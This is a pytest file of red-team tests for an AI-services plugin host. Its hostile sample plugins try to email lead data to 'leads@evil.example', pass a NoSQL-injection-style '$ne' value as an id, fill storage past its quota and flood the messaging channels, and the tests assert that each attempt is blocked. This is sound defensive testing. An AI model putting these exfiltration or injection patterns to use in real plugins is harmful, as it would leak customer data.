"""Red-team findings against the permission layer and the registry, each driven by a hostile plugin.

Every plugin here is a real folder packed into a real archive and installed
through the host; most tests run it both in a sandbox worker (an upload's
default) and in the host's process, since the defences live in the
``PluginAPI`` that serves both.

- 9: an optional grant of v1 does not outlive a v2 that no longer declares it;
- 10: a plugin's store has quotas per tenant, and its messages a rate;
- 22: an argument of the wrong type (a dict for an id) never reaches the host services.
"""

from __future__ import annotations

import json
import os
import textwrap
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, cast

import attrs
import pytest

from conftest import Hosts, Installer, plugin_folder
from services_ai_plugins import (
    AuditEvent,
    MemoryStorage,
    PluginHost,
    SandboxPolicy,
    SQLiteStorage,
    pack_plugin,
)
from services_ai_plugins._api import DeniedCall
from services_ai_plugins.events import Context, Lead
from services_ai_plugins.storage import Change, Storage, StoreUsage
from services_ai_plugins.types import ApiLimits, Rate
from services_ai_plugins_testing.fakes import FakeHostServices

pytestmark = pytest.mark.skipif(not hasattr(os, "fork"), reason="the process sandbox needs fork")

HEADER = "import json\nfrom services_ai_plugins import hookimpl\n\n\nclass Plugin:\n"

#: Where the plugin runs: a sandbox worker (an upload's default) or the host's process.
ISOLATIONS = ["process", "inprocess"]

#: A well-behaved plugin installed beside each hostile one: it must keep working.
HEALTHY = """
@hookimpl
def lead_created(self, lead, api):
    api.store_set("seen", (api.store_get("seen") or 0) + 1)
"""


@pytest.fixture
def denied() -> list[DeniedCall]:
    return []


@pytest.fixture
def install(tmp_path: Path) -> Installer:
    return Installer(tmp_path / "v1", HEADER)


@pytest.fixture
def make_host(hosts: Hosts, denied: list[DeniedCall]) -> Callable[..., PluginHost]:
    def make(
        isolation: str = "process", *, storage: Storage | None = None, **options: Any
    ) -> PluginHost:
        policy = SandboxPolicy(timeout=10.0, isolation={"archive": isolation})
        return cast(
            "PluginHost",
            hosts(storage=storage, sandbox=policy, on_denied=denied.append, **options),
        )

    return make


def fire(host: PluginHost, services: FakeHostServices, tenant: str = "acme") -> Lead:
    lead = services.make_lead(tenant, name="Ada")
    host.hook.lead_created(lead=lead, context=Context(tenant=tenant))
    return lead


def reinstall(
    host: PluginHost, root: Path, plugin_id: str, body: str, manifest: dict[str, Any]
) -> None:
    """Upload a new version of ``plugin_id`` (``manifest`` over the default one) and approve it."""
    source = HEADER + textwrap.indent(textwrap.dedent(body), "    ")
    folder = plugin_folder(root, plugin_id, source)
    document = json.loads((folder / "manifest.json").read_text())
    (folder / "manifest.json").write_text(json.dumps({**document, **manifest}))
    archive = pack_plugin(folder, root / f"{plugin_id}.zip").path
    host.install(archive, actor="ops", reinstall=True)
    host.registry.approve(plugin_id, actor="admin")


def failures(host: PluginHost, plugin_id: str) -> list[Any]:
    host.flush()
    return host.failures(plugin_id)


# -- 9: optional grants outlive the manifest -----------------------------------------------------

#: v1 asks for send_email as an optional permission and uses it when it is granted.
MAILER_V1 = """
@hookimpl
def lead_created(self, lead, api):
    if api.has_permission("send_email"):
        api.send_email("sales@acme.example", "New lead", lead.name)
"""

#: v2 no longer declares send_email, yet tries to mail every lead out.
MAILER_V2 = """
@hookimpl
def lead_created(self, lead, api):
    from services_ai_plugins import PermissionDenied
    held = api.has_permission("send_email")
    try:
        api.send_email("leads@evil.example", "Leads", json.dumps([lead.name, lead.email]))
    except PermissionDenied as exc:
        api.store_set("mail", [held, type(exc).__name__, exc.permission])
    else:
        api.store_set("mail", [held, "sent", None])
"""

V1_MANIFEST = {"optional_permissions": ["send_email"]}


@pytest.fixture(params=["memory", "sqlite", "postgres"])
def backend(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Storage]:
    """Each storage backend, fresh (PostgreSQL: in a schema of its own, dropped afterwards)."""
    if request.param == "memory":
        yield MemoryStorage()
        return
    if request.param == "sqlite":
        store = SQLiteStorage(tmp_path / "registry.db")
        yield store
        store.close()
        return
    from psycopg import connect, sql

    from services_ai_plugins import PostgresStorage

    url = request.getfixturevalue("postgres_url")
    schema = f"redteam_{uuid.uuid4().hex[:12]}"
    store = PostgresStorage(url, schema=schema, max_size=2)
    try:
        yield store
    finally:
        store.close()
        with connect(url, autocommit=True) as conn:
            conn.execute(sql.SQL("DROP SCHEMA IF EXISTS {} CASCADE").format(sql.Identifier(schema)))


def test_an_optional_grant_of_v1_does_not_reach_a_v2_that_no_longer_declares_it(
    make_host: Callable[..., PluginHost],
    install: Installer,
    services: FakeHostServices,
    backend: Storage,
    tmp_path: Path,
) -> None:
    """v1 is granted its optional send_email for acme; v2 drops it from its manifest. The
    switch to v2 revokes the grant, its audit event naming it, and v2 cannot mail leads out
    (sandboxed, on every storage backend)."""
    host = make_host(storage=backend)
    install(host, "mailer", MAILER_V1, manifest=V1_MANIFEST)
    host.registry.grant("mailer", "acme", "send_email", actor="owner@acme")
    fire(host, services)
    assert len(services.emails("acme")) == 1  # v1 used its grant

    reinstall(host, tmp_path / "v2", "mailer", MAILER_V2, {"version": "2.0.0"})
    # Staged and approved: v1 still runs, with its grant, until a host makes the switch.
    assert "send_email" in host.registry.grants("mailer", "acme")
    [approval, *_] = host.registry.audit_log(plugin_id="mailer", action="approve upgrade")
    assert approval.after is not None
    assert "send_email" in str(approval.after["approved"])  # the optional permission it drops
    host.refresh()

    [upgrade, *_] = host.registry.audit_log(plugin_id="mailer", action="upgrade")
    assert upgrade.after is not None
    assert upgrade.after["version"] == "2.0.0"
    assert upgrade.after["dropped"] == {"acme": ["send_email"]}
    assert host.registry.tenant("mailer", "acme").optional_grants == ()  # type: ignore[union-attr]
    assert "send_email" not in host.registry.grants("mailer", "acme")

    fire(host, services)
    assert services.stored("acme", "mailer")["mail"] == [False, "PermissionDenied", "send_email"]
    assert len(services.emails()) == 1  # nothing more went out
    assert failures(host, "mailer") == []


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_a_stored_grant_the_manifest_does_not_declare_counts_for_nothing_and_can_be_revoked(
    make_host: Callable[..., PluginHost],
    install: Installer,
    services: FakeHostServices,
    isolation: str,
) -> None:
    """A grant stored for a permission the installed manifest does not declare (a database
    written before this fix, or an upgrade cut short) gives the plugin nothing, and revoke
    removes it."""
    host = make_host(isolation)
    install(host, "mailer", MAILER_V2)  # declares no send_email at all
    record = host.registry.tenant("mailer", "acme")
    assert record is not None
    plugin = host.registry.plugin("mailer")
    host.registry.storage.commit(
        Change(
            plugin_id="mailer",
            plugin_revision=plugin.revision,
            tenant=attrs.evolve(
                record, optional_grants=("send_email",), revision=record.revision + 1
            ),
            audit=AuditEvent(
                at=record.changed_at, actor="old-release", action="grant", plugin_id="mailer"
            ),
        )
    )
    assert host.registry.grants("mailer", "acme") == {"read_leads"}
    assert host.refresh()  # the host sees the stored grant (as another process wrote it)

    fire(host, services)
    assert services.stored("acme", "mailer")["mail"] == [False, "PermissionDenied", "send_email"]
    assert services.emails() == []

    revoked = host.registry.revoke("mailer", "acme", "send_email", actor="admin")
    assert revoked.optional_grants == ()
    [event, *_] = host.registry.audit_log(plugin_id="mailer", action="revoke")
    assert (event.actor, event.before, event.after) == (
        "admin",
        {"optional_grants": ["send_email"]},
        {"optional_grants": []},
    )
    with pytest.raises(ValueError, match="not an optional permission"):
        host.registry.revoke("mailer", "acme", "send_sms", actor="admin")


# -- 10: the plugin store and its messages are bounded ------------------------------------------

#: Fills its store, a new key per lead and number, until refused; then records the refusal
#: under "last" (a key it kept from the start: replacing it adds no key).
HOARDER = """
@hookimpl
def lead_created(self, lead, api):
    from services_ai_plugins import QuotaExceeded
    api.store_set("last", None)
    for number in range(10_000):
        try:
            api.store_set(f"{lead.id}/{number}", "x" * 100)
        except QuotaExceeded as exc:
            refusal = [type(exc).__name__, exc.limit, exc.allowed, exc.requested, number]
            break
    else:
        refusal = None
    api.store_set("last", refusal)
"""

SMALL_STORE = ApiLimits(store_keys=5, store_bytes=100_000)


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_a_plugin_filling_its_store_is_stopped_at_its_quota_and_other_tenants_keep_theirs(
    make_host: Callable[..., PluginHost],
    install: Installer,
    services: FakeHostServices,
    denied: list[DeniedCall],
    isolation: str,
) -> None:
    """A plugin writing key after key gets QuotaExceeded (a class it can catch, with its
    fields) at the key limit; nothing past the limit is kept; another tenant's store and
    another plugin's store are untouched by it."""
    host = make_host(isolation, limits=SMALL_STORE)
    install(host, "hoarder", HOARDER, tenants=("acme", "globex"))
    install(host, "healthy", HEALTHY)
    lead = fire(host, services)
    stored = services.stored("acme", "hoarder")
    assert stored.pop("last") == ["QuotaExceeded", "store_keys", 5, 6, 4]
    assert sorted(stored) == [f"{lead.id}/{number}" for number in range(4)]
    assert host.meter.store_usage("hoarder", "acme").keys == 5
    assert services.stored("acme", "healthy") == {"seen": 1}
    assert [(d.plugin_id, d.method) for d in denied] == [("hoarder", "store_set")]

    fire(host, services, "globex")  # its own quota, untouched by acme's
    expected = ["QuotaExceeded", "store_keys", 5, 6, 4]
    assert services.stored("globex", "hoarder")["last"] == expected
    assert len(services.stored("globex", "hoarder")) == 5
    assert failures(host, "hoarder") == []


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_a_plugin_writing_big_values_is_stopped_at_its_byte_quota(
    make_host: Callable[..., PluginHost],
    install: Installer,
    services: FakeHostServices,
    isolation: str,
) -> None:
    """Values near the per-value limit, key after key: refused once the store would hold more
    bytes than its quota (counting keys and JSON values), so it never holds more."""
    host = make_host(isolation, limits=ApiLimits(store_keys=None, store_bytes=50_000))
    install(
        host,
        "hoarder",
        """
        @hookimpl
        def lead_created(self, lead, api):
            from services_ai_plugins import QuotaExceeded
            try:
                for number in range(1000):
                    api.store_set(f"big{number}", "y" * 20_000)
            except QuotaExceeded as exc:
                api.store_set("big0", [exc.limit, exc.allowed, exc.requested > exc.allowed])
        """,
    )
    fire(host, services)
    stored = services.stored("acme", "hoarder")
    assert stored["big0"] == ["store_bytes", 50_000, True]
    assert sorted(stored) == ["big0", "big1"]
    usage = host.meter.store_usage("hoarder", "acme")
    assert usage.bytes <= 50_000
    assert usage == StoreUsage(
        keys=2,
        bytes=sum(
            len(k) + len(json.dumps(v, ensure_ascii=False).encode()) for k, v in stored.items()
        ),
    )


def test_the_store_quota_holds_across_hosts_sharing_a_storage(
    make_host: Callable[..., PluginHost],
    install: Installer,
    services: FakeHostServices,
    tmp_path: Path,
) -> None:
    """Two hosts (as two processes) over one SQLite registry: what the plugin stored through
    one counts in the other, so running on many workers does not multiply its quota."""
    path = tmp_path / "shared.db"
    first = make_host(storage=SQLiteStorage(path), limits=SMALL_STORE)
    install(first, "hoarder", HOARDER)
    fire(first, services)
    assert len(services.stored("acme", "hoarder")) == 5

    second = make_host(storage=SQLiteStorage(path), limits=SMALL_STORE)
    lead = fire(second, services)
    stored = services.stored("acme", "hoarder")
    assert stored["last"] == ["QuotaExceeded", "store_keys", 5, 6, 0]
    assert len(stored) == 5
    assert f"{lead.id}/0" not in stored


#: Sends as fast as it can on one channel, counting what went out until refused.
def flooder(call: str) -> str:
    return f"""
    @hookimpl
    def lead_created(self, lead, api):
        from services_ai_plugins import QuotaExceeded, RateLimited
        sent = 0
        refusal = None
        for number in range(200):
            try:
                {call}
            except RateLimited as exc:
                refusal = [type(exc).__name__, isinstance(exc, QuotaExceeded), exc.limit,
                           exc.allowed, exc.per, exc.retry_after > 0]
                break
            sent += 1
        api.store_set("flood", [sent, refusal])
    """


CHANNELS = {
    "send_notification": 'api.send_notification(f"spam {number}")',
    "send_email": 'api.send_email("victim@example.com", "spam", str(number))',
    "send_sms": 'api.send_sms("+15550100", f"spam {number}")',
}


@pytest.mark.parametrize("isolation", ISOLATIONS)
@pytest.mark.parametrize("method", sorted(CHANNELS))
def test_a_plugin_flooding_a_channel_is_rate_limited_per_tenant(  # noqa: PLR0917 - fixtures
    make_host: Callable[..., PluginHost],
    install: Installer,
    services: FakeHostServices,
    denied: list[DeniedCall],
    method: str,
    isolation: str,
) -> None:
    """Each send_* method allows its rate and then raises RateLimited (a QuotaExceeded) in the
    plugin, nothing more reaching the host services; the refusal is reported once, and
    another tenant's rate is its own."""
    limits = ApiLimits(rates={method: Rate(3, per=3600.0)})
    host = make_host(isolation, limits=limits)
    permission = {"send_notification": "send_notifications"}.get(method, method)
    install(
        host,
        "flooder",
        flooder(CHANNELS[method]),
        permissions=(permission, "read_leads"),
        tenants=("acme", "globex"),
    )
    fire(host, services)
    expected = [3, ["RateLimited", True, method, 3, 3600.0, True]]
    assert services.stored("acme", "flooder")["flood"] == expected
    assert len(services.calls_to(method)) == 3
    assert [(d.plugin_id, d.method, d.permission) for d in denied] == [("flooder", method, None)]

    fire(host, services, "globex")
    assert services.stored("globex", "flooder")["flood"] == expected
    assert len(services.calls_to(method)) == 6
    # A change rebuilds the host's snapshot and its API objects: acme's rate is still spent.
    generation = host.registry.storage.generation()
    host.registry.disable("flooder", "globex", actor="admin")
    fire(host, services)
    assert host._loading.snapshot.generation > generation
    assert services.stored("acme", "flooder")["flood"][0] == 0
    assert len(services.calls_to(method)) == 6


# -- 22: arguments reach the host services only with the types the API declares ----------------

#: Passes dicts (and other wrong types) where ids and strings are expected.
FORGER = """
@hookimpl
def lead_created(self, lead, api):
    attempts = {
        "get_lead": lambda: api.get_lead({"$ne": None}),
        "update_lead": lambda: api.update_lead({"id": lead.id}, {"name": "x"}),
        "get_user": lambda: api.get_user(["u-1"]),
        "get_invoice": lambda: api.get_invoice(7),
        "list_leads": lambda: api.list_leads(limit="10"),
        "send_sms": lambda: api.send_sms({"to": "+15550100"}, "hi"),
        "send_email": lambda: api.send_email([{"to": "x@example.com"}], "s", "b"),
        "send_notification": lambda: api.send_notification("hi", channel={"all": True}),
        "store_get": lambda: api.store_get(("k",)),
    }
    outcome = {}
    for name, attempt in attempts.items():
        try:
            attempt()
        except TypeError as exc:
            outcome[name] = str(exc)
        else:
            outcome[name] = "accepted"
    api.store_set("outcome", outcome)
"""

FORGER_PERMISSIONS = (
    "read_leads",
    "write_leads",
    "read_users",
    "read_invoices",
    "send_sms",
    "send_email",
    "send_notifications",
)


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_arguments_of_the_wrong_type_never_reach_the_host_services(
    make_host: Callable[..., PluginHost],
    install: Installer,
    services: FakeHostServices,
    isolation: str,
) -> None:
    """A dict, list or int where an id or a string is expected raises TypeError in the plugin,
    naming the method and the argument; the host services are never called with it."""
    host = make_host(isolation)
    install(host, "forger", FORGER, permissions=FORGER_PERMISSIONS)
    services.make_user("acme")
    lead = fire(host, services)
    outcome = services.stored("acme", "forger")["outcome"]
    expected = {
        "get_lead": "PluginAPI.get_lead(): lead_id must be str, not dict",
        "update_lead": "PluginAPI.update_lead(): lead_id must be str, not dict",
        "get_user": "PluginAPI.get_user(): user_id must be str, not list",
        "get_invoice": "PluginAPI.get_invoice(): invoice_id must be str, not int",
        "list_leads": "PluginAPI.list_leads(): limit must be int, not str",
        "send_sms": "PluginAPI.send_sms(): to must be str, not dict",
        "send_email": "PluginAPI.send_email(): to must be str or an iterable of str, not list",
        "send_notification": "PluginAPI.send_notification(): channel must be str or None, not dict",
        "store_get": "PluginAPI.store_get(): key must be str, not tuple",
    }
    assert outcome == expected
    for method in ("get_lead", "update_lead", "get_user", "get_invoice", "list_leads"):
        assert services.calls_to(method) == [], method
    for method in ("send_sms", "send_email", "send_notification", "store_get"):
        assert services.calls_to(method) == [], method
    assert services.get_lead("acme", lead.id) == lead
    assert failures(host, "forger") == []
